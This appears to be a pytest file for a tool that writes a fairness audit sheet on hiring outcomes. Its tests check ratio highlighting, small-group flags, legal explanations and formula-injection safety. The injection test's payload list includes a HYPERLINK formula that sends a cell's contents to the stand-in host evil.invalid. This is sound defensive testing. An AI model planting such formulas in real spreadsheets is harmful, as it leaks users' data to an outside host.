"""The Fairness audit sheet: written, reopened, highlighted, explained."""

from __future__ import annotations

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook

from pipelines.fairness.audit import audit_table
from pipelines.fairness.sheet import write_fairness_sheet
from tests.corpus.hostile import unsafe_parts, workbook_parts
from tests.fairness.conftest import groups_frame

# Self-identification answers a spreadsheet could read as formulas (they become group labels).
PAYLOADS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", '=HYPERLINK("http://evil.invalid/?x="&A1,"c")']


def _table(fairness) -> pl.DataFrame:
    scored, protected = groups_frame(
        "gender", [("Female", 50, 25), ("Male", 48, 12), ("Nonbinary", 1, 1), (None, 3, 1)]
    )
    return audit_table(scored, protected, fairness)


def _reopen(workbook: Workbook, tmp_path, title: str):
    path = tmp_path / "audit.xlsx"
    workbook.save(path)
    return load_workbook(path)[title]


def _row_of(sheet, group: str) -> tuple:
    return next(row for row in sheet.iter_rows() if row[0].value == group)


def test_sheet_highlights_low_ratios_marks_small_groups_and_explains(settings, tmp_path):
    workbook = Workbook()

    write_fairness_sheet(workbook, _table(settings.fairness), settings)
    sheet = _reopen(workbook, tmp_path, "Fairness audit")

    text = " ".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value)
    for words in (
        "four-fifths",
        "29 CFR 1607.4(D)",
        "does not prove bias",
        "voluntary",
        "Local Law 144",
        "unstable",
    ):
        assert words in text
    male, female = _row_of(sheet, "Male"), _row_of(sheet, "Female")
    # Male 12/48 = 0.25 vs Female 0.5 -> 0.5, under 0.8: highlighted; Female is the reference.
    assert male[5].value == 0.5
    assert male[5].fill.fgColor.rgb.endswith(settings.fairness.sheet.highlight_fill)
    assert female[5].fill.fill_type is None
    assert "reference" in female[9].value
    nonbinary = _row_of(sheet, "Nonbinary")
    assert "small group" in nonbinary[9].value
    assert nonbinary[0].fill.fgColor.rgb.endswith(settings.fairness.sheet.small_fill)
    unknown = _row_of(sheet, "Unknown/declined")
    assert unknown[5].value is None and "not in ratios" in unknown[9].value
    assert male[4].number_format == settings.fairness.sheet.percent_format


def test_sheet_works_in_a_write_only_workbook(settings, tmp_path):
    workbook = Workbook(write_only=True)

    write_fairness_sheet(workbook, _table(settings.fairness), settings)
    sheet = _reopen(workbook, tmp_path, "Fairness audit")

    male = _row_of(sheet, "Male")
    assert male[5].fill.fgColor.rgb.endswith(settings.fairness.sheet.highlight_fill)


def test_sheet_without_protected_columns_says_there_is_nothing_to_audit(settings, tmp_path):
    workbook = Workbook()
    empty = _table(settings.fairness).clear()

    write_fairness_sheet(workbook, empty, settings)
    sheet = _reopen(workbook, tmp_path, "Fairness audit")

    text = " ".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value)
    assert "nothing to audit" in text


@pytest.mark.parametrize("write_only", [True, False])
def test_group_labels_typed_by_candidates_stay_text(settings, tmp_path, write_only):
    scored, protected = groups_frame("gender", [(p, 10, n) for n, p in enumerate(PAYLOADS)])
    workbook = Workbook(write_only=write_only)

    write_fairness_sheet(workbook, audit_table(scored, protected, settings.fairness), settings)
    path = tmp_path / "audit.xlsx"
    workbook.save(path)
    sheet = load_workbook(path)["Fairness audit"]

    assert unsafe_parts(workbook_parts(path)) == []
    labels = [_row_of(sheet, payload)[0] for payload in PAYLOADS]
    assert [(c.data_type, c.quotePrefix) for c in labels] == [("s", True)] * len(PAYLOADS)


def test_a_title_excel_refuses_is_made_a_valid_sheet_name(settings, tmp_path):
    workbook = Workbook()

    sheet = write_fairness_sheet(
        workbook, _table(settings.fairness), settings, title="Audit: 2026/Q1 [pooled]?"
    )

    assert sheet.title == "Audit 2026 Q1 pooled"
    assert sheet["A1"].value == "Audit: 2026/Q1 [pooled]?"
